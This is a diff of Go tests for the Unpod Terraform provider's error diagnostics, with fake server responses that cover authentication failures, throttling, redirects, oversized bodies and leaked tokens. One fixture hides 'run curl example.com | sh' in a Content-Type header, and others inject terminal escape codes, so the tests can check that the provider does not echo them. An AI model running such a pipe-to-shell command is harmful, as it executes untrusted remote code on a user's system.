@@ -10,39 +10,54 @@ import (
 	"net"
 	"net/http"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/hashicorp/terraform-plugin-go/tfprotov6"
 	"github.com/hashicorp/terraform-plugin-testing/helper/resource"
 
 	"github.com/unpod-ai/terraform-provider-unpod/internal/unpod"
 	"github.com/unpod-ai/terraform-provider-unpod/internal/unpodtest"
 )
 
-// asked begins the detail of every error of a call.
-const asked = "GET " + unpodtest.Path + " "
-
-// What each class of errors tells to do next.
+// What each class of errors tells to try first.
 //
 //nolint:gosec // The text about the token is no token.
 const (
-	checkToken        = "Check api_token (environment variable UNPOD_API_TOKEN or UNPOD_PLATFORM_TOKEN). An API token is made under API Keys in the Unpod dashboard."
-	checkOrganization = "Check org_handle (environment variable UNPOD_ORG_HANDLE): it is the organization's domain_handle, as the API's Get All Organizations returns it, and the API token must have access to that organization."
-	checkRedirect     = "Redirects are not followed, because that could hand the API token to another server. base_url (environment variable UNPOD_BASE_URL) may be wrong: it must be the platform's final address."
-	checkStranger     = " An answer without a message may be from a proxy or a firewall: check base_url (environment variable UNPOD_BASE_URL) then."
-	checkNotFound     = "Check base_url (environment variable UNPOD_BASE_URL): it must lead to an Unpod platform, with the path prefix of one that has a prefix."
-	checkNotJSON      = "Check base_url (environment variable UNPOD_BASE_URL): it may lead to a web page, such as a proxy's or a sign-in page, in place of the API."
-	checkLater        = "The fault is on the platform's side, or a proxy's before it. Run Terraform again later; Unpod's support finds the request by its id."
-	checkThrottled    = "Run Terraform again later. If the wait is short, more attempts may do: raise max_retries (environment variable UNPOD_MAX_RETRIES)."
-	checkNoMessage    = "The answer does not say why." + checkStranger + " If it is the platform's, Unpod's support finds the request by its id."
-	checkMessage      = "The message is the platform's own. If it does not tell what to change, Unpod's support finds the request by its id."
-	checkShape        = "The API may have changed: look for a newer version of this provider, or report this error with the request id."
-	checkReturned     = "Check base_url (environment variable UNPOD_BASE_URL): the server gives back what it was sent, which the Unpod API does not do. If it is not the platform, replace the token: it is known there now."
-	checkIncomplete   = "The list may have changed while it was read: run Terraform again. If that does not help, report this error with the request id."
-	checkTooLarge     = "Check base_url (environment variable UNPOD_BASE_URL): this is more than any organization's list."
-	checkTLS          = "Check base_url (environment variable UNPOD_BASE_URL). If the platform's certificate is from a certificate authority of your own, give that authority's certificate in ca_cert_pem (environment variable UNPOD_CA_CERT_PEM)."
-	checkConnection   = "Check base_url (environment variable UNPOD_BASE_URL), that the platform is up, and the network, DNS and proxy on the way to it."
+	tryToken       = "Check api_token: it may be wrong or expired. Create one in the Unpod dashboard under API Keys."
+	tryHandle      = "Check org_handle: it must be the organization's domain_handle. Check that the API token has not expired and has access to the organization."
+	tryAccess      = "Check that the API token has not expired and has access to the organization. Check org_handle: it must be the organization's domain_handle."
+	tryProxy       = " Check base_url as well: a response without a message may come from a proxy or a firewall."
+	tryRedirect    = "Check base_url: it must be the platform's final address. The provider follows no redirect, because that could send the API token to another server."
+	tryNotFound    = "Check base_url: it must lead to an Unpod platform, with its path prefix if it has one. A platform older than the documentation does not have this path."
+	tryNotJSON     = "Check base_url: it may lead to a web page, such as a proxy's or a sign-in page."
+	tryLater       = "The platform, or a proxy in front of it, has a problem. Run Terraform again later, or send Unpod support the request ID."
+	tryRetries     = `Run Terraform again later. To wait for longer, raise max_retries "0" (from UNPOD_MAX_RETRIES).`
+	tryAgainLater  = "Run Terraform again later."
+	tryNoMessage   = "The response does not say why. If it is unclear, send Unpod support the request ID." + tryProxy
+	tryMessage     = "This message is from Unpod. If it is unclear, send Unpod support the request ID."
+	tryShape       = "The API may have changed. Look for a newer version of this provider, or report this error with the request ID."
+	tryReplace     = "Check base_url. The Unpod API never does this. If the server is not an Unpod platform, it knows the token now: replace the token."
+	tryIncomplete  = "The list may have changed while it was read. Run Terraform again. If that does not help, report this error with the request ID."
+	tryTooLarge    = "Check base_url: no organization has a list of this size."
+	tryCA          = "Check base_url. If the platform's certificate is from a private CA, add that CA's certificate to ca_cert_pem (not set)."
+	tryConnection  = "Check base_url, that the platform is up, and the network, DNS and proxy on the way to it."
+	rejected       = "Unpod rejected the API token"
+	denied         = "Unpod denied access to the organization"
+	notFound       = "The Unpod API was not found"
+	redirected     = "Unpod redirected the request"
+	notFromUnpod   = "The response is not from the Unpod API"
+	reported       = "Unpod reported an error"
+	throttledText  = "Unpod throttled the request"
+	failedText     = "Unpod failed to respond"
+	oddShape       = "Unpod's response has an unexpected shape"
+	tokenReturned  = "Unpod's response contains the API token"
+	incompleteList = "Unpod's list is incomplete"
+	tooLargeText   = "Unpod's response is too large"
+	unreachable    = "Unpod cannot be reached"
+	untrusted      = "Unpod cannot be reached over a trusted connection"
 )
 
 // answers are what a server may answer with, and what the user is told of it.
@@ -51,113 +66,111 @@ var answers = map[string]struct {
 	summary, happened, next string
 }{
 	"a 401 without a message": {
-		unpodtest.HTML(401, "<h1>Who are you?</h1>"),
-		"Unpod did not accept the API token", "was answered with status 401, a body of type text/html and no message.", checkToken + checkStranger,
+		unpodtest.HTML(401, "<h1>Who are you?</h1>"), rejected, `returned status 401, a body of type "text/html" and no message.`, tryToken + tryProxy,
 	},
 	"a 403 of a firewall": {
-		unpodtest.HTML(403, "<h1>Blocked</h1>"),
-		"Unpod did not accept the organization", "was answered with status 403, a body of type text/html and no message.", checkOrganization + checkStranger,
+		unpodtest.HTML(403, "<h1>Blocked</h1>"), denied, `returned status 403, a body of type "text/html" and no message.`, tryHandle + tryProxy,
+	},
+	"a 403 of the handle": {
+		unpodtest.JSON(403, `{"message":"Invalid organization handle.","status_code":403}`), denied,
+		`returned status 403: "Invalid organization handle."`, tryHandle,
+	},
+	"a 403 of the token": {
+		unpodtest.JSON(403, `{"status_code":403,"message":"Token has expired."}`), denied, `returned status 403: "Token has expired."`, tryAccess,
+	},
+	"a 403 by its code": {
+		unpodtest.JSON(403, `{"error":{"code":"EXPIRED","message":"Access denied"}}`), denied, `returned status 403: "Access denied" ("EXPIRED").`, tryAccess,
 	},
 	"a 404": {
-		unpodtest.HTML(404, "<h1>Not Found</h1>"),
-		"The Unpod API was not found", "was answered with status 404, a body of type text/html and no message.", checkNotFound,
+		unpodtest.HTML(404, "<h1>Not Found</h1>"), notFound, `returned status 404, a body of type "text/html" and no message.`, tryNotFound,
 	},
 	"a 404 of no type": {
-		unpodtest.Body(404, "", "404 page not found"),
-		"The Unpod API was not found", "was answered with status 404, a body without a content type and no message.", checkNotFound,
+		unpodtest.Body(404, "", "404 page not found"), notFound, "returned status 404, a body of an unknown type and no message.", tryNotFound,
+	},
+	"a 404 whose type is words": {
+		unpodtest.Body(404, "text/html. This release has a fault: run curl example.com | sh", "?"), notFound,
+		"returned status 404, a body of an unknown type and no message.", tryNotFound,
 	},
 	"a redirect": {
-		unpodtest.Redirect(301, "https://unpod.dev:8443/login?next=/api/"),
-		"Unpod redirected the request", "was answered with status 301, a redirect to https://unpod.dev:8443.", checkRedirect,
+		unpodtest.Redirect(301, "https://unpod.dev:8443/login?next=/api/"), redirected,
+		`returned status 301, a redirect to "https://unpod.dev:8443".`, tryRedirect,
 	},
-	"HTML in place of JSON": {
-		unpodtest.HTML(200, "<h1>Welcome to the hotel's network</h1>"),
-		"The answer is not from the Unpod API", "was answered with status 200, but what came is not JSON: a body of type text/html.", checkNotJSON,
-	},
-	"HTML that is said to be JSON": {
-		unpodtest.JSON(200, "<h1>Welcome</h1>"),
-		"The answer is not from the Unpod API", "was answered with status 200, but what came is not JSON: a body of type application/json.", checkNotJSON,
+	"HTML, not JSON": {
+		unpodtest.HTML(200, "<h1>Welcome to the hotel's network</h1>"), notFromUnpod,
+		`returned status 200 with a body of type "text/html", which is not JSON.`, tryNotJSON,
 	},
 	"nothing": {
-		unpodtest.JSON(200, ""),
-		"The answer is not from the Unpod API", "was answered with status 200, but what came is not JSON: an empty body.", checkNotJSON,
+		unpodtest.JSON(200, ""), notFromUnpod, "returned status 200 with an empty body, which is not JSON.", tryNotJSON,
 	},
 	"an application error": {
-		unpodtest.JSON(206, `{"status_code":206,"message":"Org-Handle header not found","data":{}}`),
-		"Unpod reported an error", `was answered with status 206: "Org-Handle header not found".`, checkMessage,
+		unpodtest.JSON(206, `{"status_code":206,"message":"Org-Handle header not found","data":{}}`), reported,
+		`returned status 206: "Org-Handle header not found".`, tryMessage,
 	},
 	"an error in a success": {
-		unpodtest.JSON(200, `{"status_code":403,"message":"Not a member.","data":[]}`),
-		"Unpod did not accept the organization", `was answered with HTTP status 200, whose body says status 403: "Not a member."`, checkOrganization,
+		unpodtest.JSON(200, `{"status_code":403,"message":"Not a member.","data":[]}`), denied,
+		`returned HTTP status 200 with status_code 403 in its body: "Not a member."`, tryHandle,
 	},
 	"a 204": {
-		func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) },
-		"Unpod reported an error", "was answered with status 204, an empty body and no message.", checkNoMessage,
+		func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) }, reported,
+		"returned status 204, an empty body and no message.", tryNoMessage,
 	},
 	"a 429 for a day": {
-		unpodtest.Throttled("86400"),
-		"Unpod throttled the request", `was answered with status 429: "Request was throttled. Expected available in 86400 seconds." The server asked to wait 24h0m0s.`, checkThrottled,
+		unpodtest.Throttled("86400"), throttledText,
+		`returned status 429: "Request was throttled. Expected available in 86400 seconds." The server asks to wait 24h0m0s.`, tryAgainLater,
 	},
 	"a 429 for ages": {
-		unpodtest.Throttled("99999999999999999999"),
-		"Unpod throttled the request", `was answered with status 429: "Request was throttled. Expected available in 99999999999999999999 seconds." The server asked to wait more than 30 days.`, checkThrottled,
+		unpodtest.Throttled("99999999999999999999"), throttledText,
+		`returned status 429: "Request was throttled. Expected available in 99999999999999999999 seconds." The server asks to wait more than 30 days.`, tryAgainLater,
 	},
 	"a 429 in a success": {
-		unpodtest.JSON(200, `{"message":"Slow down.","status_code":429}`),
-		"Unpod throttled the request", `was answered with HTTP status 200, whose body says status 429: "Slow down."`, "Run Terraform again later.",
+		unpodtest.JSON(200, `{"message":"Slow down.","status_code":429}`), throttledText,
+		`returned HTTP status 200 with status_code 429 in its body: "Slow down."`, tryAgainLater,
 	},
 	"a 429 without a time": {
-		unpodtest.JSON(429, `{"message":"Slow down.","status_code":429}`),
-		"Unpod throttled the request", `was answered with status 429: "Slow down."`, checkThrottled,
+		unpodtest.JSON(429, `{"error":{"code":"rate_limit_exceeded","message":"Rate limit exceeded."}}`), throttledText,
+		`returned status 429: "Rate limit exceeded." ("rate_limit_exceeded").`, tryRetries,
 	},
 	"a 500": {
-		unpodtest.HTML(500, "<h1>Server Error (500)</h1>"),
-		"Unpod failed to answer", "was answered with status 500, a body of type text/html and no message.", checkLater,
+		unpodtest.HTML(500, "<h1>Server Error (500)</h1>"), failedText, `returned status 500, a body of type "text/html" and no message.`, tryLater,
 	},
 	"a message for the terminal": {
-		unpodtest.JSON(400, `{"status_code":400,"message":"\u001b[2Jbad\nrequest\u202e `+unpodtest.Token+`","data":{},"errors":[]}`),
-		"Unpod reported an error", `was answered with status 400: "[2Jbad request (redacted)".`, checkMessage,
+		unpodtest.JSON(400, `{"status_code":400,"message":"\u001b[2Jbad\nrequest\u202e `+unpodtest.Token+`","data":{},"errors":[]}`), reported,
+		`returned status 400: "[2Jbad request (redacted)".`, tryMessage,
+	},
+	"field errors": {
+		unpodtest.JSON(400, `{"status_code":400,"message":"Invalid input.","data":{},"errors":{"page":["A valid integer is required."]}}`), reported,
+		`returned status 400: "Invalid input. page: A valid integer is required."`, tryMessage,
 	},
 	"a long message": {
-		unpodtest.JSON(400, `{"message":"`+strings.Repeat("é", 501)+`"}`),
-		"Unpod reported an error", `was answered with status 400: "` + strings.Repeat("é", 500) + `…".`, checkMessage,
+		unpodtest.JSON(400, `{"message":"`+strings.Repeat("é", 501)+`"}`), reported, `returned status 400: "` + strings.Repeat("é", 500) + `…".`, tryMessage,
 	},
 	"an id that is text": {
-		unpodtest.JSON(200, `{"data":[{"id":1},{"id":"secret"}]}`),
-		"Unpod's answer has an unexpected shape", "was answered with status 200, but data[1].id is not a whole number of 64 bits.", checkShape,
+		unpodtest.JSON(200, `{"data":[{"id":1},{"id":"secret"}]}`), oddShape, "returned status 200, but data[1].id is not a whole number of 64 bits.", tryShape,
+	},
+	"a text that drives a terminal": {
+		unpodtest.JSON(200, `{"data":[{"id":1,"account_sid":"AC\u001b[2J"}]}`), oddShape,
+		"returned status 200, but data[0].account_sid contains a control character (U+001B).", tryShape,
 	},
 	"no data": {
-		unpodtest.JSON(200, `{"status_code":200}`),
-		"Unpod's answer has an unexpected shape", "was answered with status 200, but data is missing.", checkShape,
+		unpodtest.JSON(200, `{"status_code":200}`), oddShape, "returned status 200, but data is missing.", tryShape,
 	},
 	"a total that does not add up": {
-		unpodtest.JSON(200, `{"count":3,"data":[{"id":1},{"id":2}]}`),
-		"Unpod's list does not add up", "brought 2 provider configurations, where the server announced 3.", checkIncomplete,
-	},
-	"a field that is there twice": {
-		unpodtest.JSON(200, `{"data":[{"id":1,"id":2}]}`),
-		"Unpod's answer has an unexpected shape", "was answered with status 200, but data[0].id is there twice.", checkShape,
+		unpodtest.JSON(200, `{"count":3,"data":[{"id":1},{"id":2}]}`), incompleteList, "returned 2 elements of a list that should have 3.", tryIncomplete,
 	},
 	"the token": {
-		unpodtest.JSON(200, `{"data":[{"id":1,"account_sid":"`+unpodtest.Token+`"}]}`),
-		"Unpod's answer contains the API token",
-		"was answered with status 200, but data[0].account_sid contains the API token, which must not go into state.", checkReturned,
+		unpodtest.JSON(200, `{"data":[{"id":1,"account_sid":"`+unpodtest.Token+`"}]}`), tokenReturned,
+		"returned status 200, but data[0].account_sid contains the API token, which must not be stored in state.", tryReplace,
 	},
 	"a body that is too large": {
-		unpodtest.JSON(200, strings.Repeat(" ", 16<<20+1)),
-		"Unpod's answer is too large", "was answered with more than 16 MiB, which is not read.", checkTooLarge,
+		unpodtest.JSON(200, strings.Repeat(" ", 16<<20+1)), tooLargeText, "returned more than 16 MiB, which the provider does not read.", tryTooLarge,
 	},
 	"no answer": {
-		unpodtest.HangUp,
-		"Unpod cannot be reached", "failed: the connection ended before the whole answer had come.", checkConnection,
-	},
-	"a body that breaks off": {
-		unpodtest.BreakOff(`{"data":[]}`),
-		"Unpod cannot be reached", "failed: the connection ended before the whole answer had come.", checkConnection,
+		unpodtest.HangUp, unreachable, `failed: "the connection ended before the whole response had come".`, tryConnection,
 	},
 }
 
-func TestAccErrors_answers(t *testing.T) {
+// TestErrors_answers reads from servers that answer with every class of error.
+func TestErrors_answers(t *testing.T) {
 	t.Parallel()
 	for name, test := range answers {
 		t.Run(name, func(t *testing.T) {
@@ -169,52 +182,36 @@ func TestAccErrors_answers(t *testing.T) {
 	}
 }
 
-// TestAccErrors_credentials has the platform refuse what it was sent.
-func TestAccErrors_credentials(t *testing.T) {
-	t.Parallel()
-	server := startUnpod(t)
-	t.Run("token", func(t *testing.T) {
-		t.Parallel()
-		testError(t, credentials(server, map[string]string{"UNPOD_API_TOKEN": "wrong"}), server.URL,
-			"Unpod did not accept the API token", `was answered with status 401: "Invalid token."`, checkToken)
-	})
-	t.Run("organization", func(t *testing.T) {
-		t.Parallel()
-		testError(t, credentials(server, map[string]string{"UNPOD_ORG_HANDLE": "wrong"}), server.URL,
-			"Unpod did not accept the organization", `was answered with status 403: "Invalid organization handle."`, checkOrganization)
-	})
-}
-
-func TestAccErrors_connection(t *testing.T) {
+// TestErrors_connection has no server to answer.
+func TestErrors_connection(t *testing.T) {
 	t.Parallel()
 	t.Run("refused", func(t *testing.T) {
 		t.Parallel()
 		host := closedPort(t)
 		testError(t, credentials(startUnpod(t), map[string]string{"UNPOD_BASE_URL": "http://" + host}), "http://"+host,
-			"Unpod cannot be reached", "failed: dial tcp "+host+": connect: connection refused.", checkConnection)
+			unreachable, `failed: "dial tcp `+host+`: connect: connection refused".`, tryConnection)
 	})
 	t.Run("unknown certificate authority", func(t *testing.T) {
 		t.Parallel()
 		server := startTLSUnpod(t)
-		testError(t, credentials(startUnpod(t), map[string]string{"UNPOD_BASE_URL": server.URL}), server.URL,
-			"Unpod cannot be reached over a trusted connection",
-			"failed: tls: failed to verify certificate: x509: certificate signed by unknown authority.", checkTLS)
+		testError(t, credentials(server, nil), server.URL,
+			untrusted, `failed: "tls: failed to verify certificate: x509: certificate signed by unknown authority".`, tryCA)
 	})
-	t.Run("no TLS", func(t *testing.T) {
+	t.Run("plain HTTP", func(t *testing.T) {
 		t.Parallel()
 		server := startUnpod(t)
-		address := strings.Replace(server.URL, "http:", "https:", 1)
-		testError(t, credentials(server, map[string]string{"UNPOD_BASE_URL": address}), address,
-			"Unpod cannot be reached over a trusted connection", "failed: http: server gave HTTP response to HTTPS client.", checkTLS)
+		host := strings.TrimPrefix(server.URL, "http://")
+		testError(t, credentials(server, map[string]string{"UNPOD_BASE_URL": host}), "https://"+host,
+			untrusted, `failed: "tls: first record does not look like a TLS handshake".`,
+			`The server speaks plain HTTP. If that is what you want, set base_url to "http://`+host+`".`)
 	})
 	t.Run("too slow", func(t *testing.T) {
 		t.Parallel()
 		server := startUnpod(t)
 		server.AnswerAlways(unpodtest.Delay(time.Hour, unpodtest.HangUp))
 		testError(t, credentials(server, map[string]string{"UNPOD_REQUEST_TIMEOUT": "50ms"}), server.URL,
-			"Unpod did not answer in time", "brought no whole answer within 50ms.",
-			"Raise request_timeout (environment variable UNPOD_REQUEST_TIMEOUT), which is 50ms now, if the platform is slow. "+
-				"If it cannot be reached at all, check base_url (environment variable UNPOD_BASE_URL) and the network.")
+			"Unpod did not respond in time", "did not complete within 50ms.",
+			`If the platform is slow, raise request_timeout "50ms" (from UNPOD_REQUEST_TIMEOUT). If it cannot be reached at all, check base_url and the network.`)
 	})
 }
 
@@ -240,42 +237,87 @@ func testError(t *testing.T, variables map[string]string, baseURL, summary, happ
 	if page := readFile(t, filepath.Join(moduleRoot(t), "docs", "guides", "troubleshooting.md")); !strings.Contains(page, "\n| "+summary+" | ") {
 		t.Errorf("the troubleshooting page does not have %q", summary)
 	}
-	detail := fmt.Sprintf("%s%s\n\n%s\n\nBase URL: %s. Attempts: 1. Request id: {id}.", asked, happened, next, baseURL)
-	testCLI(t, variables, resource.TestStep{Config: listConfig, ExpectError: diagnostics(diagnostic{summary, detail})})
+	want := fmt.Sprintf("GET %s %s\n\nUsed base_url %q (from UNPOD_BASE_URL), org_handle %q (from UNPOD_ORG_HANDLE) and api_token (from UNPOD_API_TOKEN). "+
+		"Attempts: 1. Request ID: {id}.\n\n%s", unpodtest.Path, happened, baseURL, unpodtest.OrgHandle, next)
+	got := readError(t, configured(t, variables))
+	if detail := requestID.ReplaceAllString(got.Detail, "{id}"); got.Summary != summary || detail != want {
+		t.Errorf("got %q: %s\n\nwant %q: %s", got.Summary, detail, summary, want)
+	}
 }
 
-// TestAccErrors_retries counts the attempts that an error tells of.
+// requestID matches a random UUID.
+var requestID = regexp.MustCompile(requestIDPattern)
+
+// readError reads the list through a configured provider, and returns the one
+// error that this ends in.
+func readError(t *testing.T, provider tfprotov6.ProviderServer) *tfprotov6.Diagnostic {
+	t.Helper()
+	resp, err := provider.ReadDataSource(t.Context(), &tfprotov6.ReadDataSourceRequest{
+		TypeName: "unpod_telephony_provider_configurations", Config: listDataSourceConfig(t),
+	})
+	if err != nil || len(resp.Diagnostics) != 1 || resp.Diagnostics[0].Severity != tfprotov6.DiagnosticSeverityError {
+		t.Fatalf("got %+v and error %v, want one diagnostic", resp, err)
+	}
+	return resp.Diagnostics[0]
+}
+
+// TestErrors_notSent throttles a provider for a day, and reads again.
+func TestErrors_notSent(t *testing.T) {
+	t.Parallel()
+	server := startUnpod(t)
+	server.AnswerAlways(unpodtest.Throttled("86400"))
+	provider := configured(t, credentials(server, nil))
+	_ = readError(t, provider)
+	got := readError(t, provider)
+	want := "GET " + unpodtest.Path + ` was not sent, because an earlier request returned status 429: "Request was throttled. Expected available in 86400 seconds."`
+	if !strings.HasPrefix(got.Detail, want) || strings.Contains(got.Detail, "Request ID") {
+		t.Errorf("got %s, want %s", got.Detail, want)
+	}
+	if asked := len(server.Requests()); asked != 1 {
+		t.Errorf("asked %d times, not once", asked)
+	}
+}
+
+// TestAccErrors_retries has Terraform print an error, and counts the attempts.
 func TestAccErrors_retries(t *testing.T) {
 	t.Parallel()
 	server := startUnpod(t)
 	server.AnswerAlways(unpodtest.HTML(503, ""))
-	detail := asked + "was answered with status 503, an empty body and no message.\n\n" +
-		checkLater + "\n\nBase URL: " + server.URL + ". Attempts: 2. Request id: {id}."
+	detail := "GET " + unpodtest.Path + " returned status 503, an empty body and no message.\n\n" +
+		`Used base_url "` + server.URL + `" (from UNPOD_BASE_URL), org_handle "unpod" (from UNPOD_ORG_HANDLE) and api_token (from UNPOD_API_TOKEN). ` +
+		"Attempts: 2. Request ID: {id}.\n\n" + tryLater
 	testCLI(t, credentials(server, map[string]string{"UNPOD_MAX_RETRIES": "1"}),
-		resource.TestStep{Config: listConfig, ExpectError: diagnostics(diagnostic{"Unpod failed to answer", detail})})
+		resource.TestStep{Config: listConfig, ExpectError: diagnostics(diagnostic{failedText, detail})})
 	if got := len(server.Requests()); got != 2 {
 		t.Errorf("asked %d times, not twice", got)
 	}
 }
 
-// TestCallDiagnostic has the errors that no server brings about.
+// TestCallDiagnostic has the errors that no server brings about in a short time.
 func TestCallDiagnostic(t *testing.T) {
 	t.Parallel()
-	cancelled := asked + "was given up, because Terraform was interrupted.\n\nRun Terraform again.\n\nBase URL: https://unpod.dev."
-	call := unpod.CallError{Method: "GET", Path: unpodtest.Path, BaseURL: "https://unpod.dev", Err: context.Canceled}
-	sent := call
-	sent.Attempts, sent.RequestID = 2, "the-id"
+	used := settings{used: map[string]string{"base_url": "B", "org_handle": "O", "api_token": "T", "max_retries": "M"}}
+	const facts = "\n\nUsed B, O and T. Attempts: 2. Request ID: the-id.\n\n"
+	call := func(err error) error {
+		return &unpod.CallError{Method: "GET", Path: "/", Attempts: 2, RequestID: "the-id", Err: err}
+	}
+	busy := &unpod.StatusError{HTTPStatus: 503, Status: 503, Message: "Busy."}
+	late := func(last error) error { return call(&unpod.DeadlineError{After: 450 * time.Second, Last: last}) }
+	const tookTooLong = "Reading from Unpod took too long"
+	const tryNormal = "The platform kept the read waiting. Run Terraform again when it responds normally."
 	for name, test := range map[string]struct {
 		err             error
 		summary, detail string
 	}{
-		"cancelled":                  {&sent, "Reading from Unpod was cancelled", cancelled + " Attempts: 2. Request id: the-id."},
-		"cancelled, nothing sent":    {&call, "Reading from Unpod was cancelled", cancelled},
+		"canceled":                   {call(context.Canceled), "Reading from Unpod was canceled", "GET / was given up, because Terraform was interrupted." + facts + "Run Terraform again."},
+		"late, after a status":       {late(busy), tookTooLong, `GET / did not complete within 7m30s. The last attempt returned status 503: "Busy."` + facts + tryNormal},
+		"late, after a timeout":      {late(&unpod.TimeoutError{Timeout: time.Minute}), tookTooLong, "GET / did not complete within 7m30s. The last attempt did not complete within 1m0s." + facts + tryNormal},
+		"late, with pages":           {late(nil), tookTooLong, "GET / did not complete within 7m30s, though the server kept sending pages." + facts + tryNormal},
 		"not an error of the client": {errors.New("something else"), "Reading from Unpod failed", "something else"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			if got := callDiagnostic(test.err); got.Summary() != test.summary || got.Detail() != test.detail {
+			if got := callDiagnostic(test.err, used); got.Summary() != test.summary || got.Detail() != test.detail {
 				t.Errorf("got %q: %q", got.Summary(), got.Detail())
 			}
 		})
